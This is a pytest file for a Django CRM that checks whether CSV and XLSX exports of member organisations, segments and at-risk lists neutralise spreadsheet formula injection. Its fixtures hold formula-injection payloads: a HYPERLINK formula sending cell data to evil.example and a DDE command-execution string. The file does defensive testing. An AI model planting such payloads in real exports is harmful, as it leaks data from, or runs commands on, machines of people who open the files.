"""CRM exports (list, segment, at-risk) go through the one export helper (issue #11, item 3)."""

import csv
import io
import zipfile

import openpyxl

from alliage.members.models import MemberStatus, Organisation, Segment
from tests.conftest import login

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
EVIL_TRADE = "=cmd|' /C calc'!A0"


def _evil(cast):
    org = Organisation.objects.create(
        legal_name=EVIL_NAME, trade_name=EVIL_TRADE, slug="evil", employees=7,
        street="@SUM(1+1)", phone="+1 418 555 0000", member_status=MemberStatus.ACTIVE,
        municipality_id=cast.acme.municipality_id)
    return org


def _csv_rows(response):
    raw = response.content
    assert raw.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))


def test_crm_csv_export_escapes_formulas_with_french_headers(client, cast):
    _evil(cast)
    login(client, cast.sam)
    response = client.get("/gestion/entreprises/?export=csv")
    assert response["Content-Type"].startswith("text/csv")
    rows = _csv_rows(response)
    header = rows[0]
    assert "Nom légal" in header and "Statut d'adhésion" in header
    evil = next(r for r in rows[1:] if EVIL_TRADE in "".join(r))
    for cell in evil:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert "'" + EVIL_NAME in evil and "'@SUM(1+1)" in evil
    assert "Active" in evil and "active" not in evil  # the translated status


def test_crm_xlsx_export_has_text_cells_and_typed_numbers(client, cast):
    _evil(cast)
    login(client, cast.sam)
    response = client.get("/gestion/entreprises/?export=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    assert ws.title == "organisations"
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("Nom légal")].value
               == EVIL_NAME)
    assert row[header.index("Nom légal")].data_type == "s"
    assert row[header.index("Employés")].value == 7
    acme = next(r for r in ws.iter_rows(min_row=2) if r[header.index("NEQ")].value
                == "1100000011")
    assert acme[header.index("Membre depuis")].is_date


def test_segment_and_at_risk_exports_are_escaped_too(client, cast):
    org = _evil(cast)
    segment = Segment.objects.create(name="Risque", query={"status": "active"})
    login(client, cast.sam)
    rows = _csv_rows(client.get(f"/gestion/entreprises/?segment={segment.pk}&export=csv"))
    assert any("'" + EVIL_NAME in r for r in rows[1:])
    # No renewal, low engagement: the company is at risk.
    org.member_status = MemberStatus.GRACE
    org.save()
    rows = _csv_rows(client.get("/gestion/a-risque/?export=csv"))
    assert "Score d'engagement" in rows[0]
    evil = next(r for r in rows[1:] if "'" + EVIL_NAME in r)
    assert all(not c.startswith(("=", "+", "-", "@")) for c in evil)
    ws = openpyxl.load_workbook(io.BytesIO(client.get(
        "/gestion/a-risque/?export=xlsx").content)).worksheets[0]
    header = [c.value for c in ws[1]]
    scores = [r[header.index("Score d'engagement")].value for r in ws.iter_rows(min_row=2)]
    assert scores and all(isinstance(s, int) for s in scores)
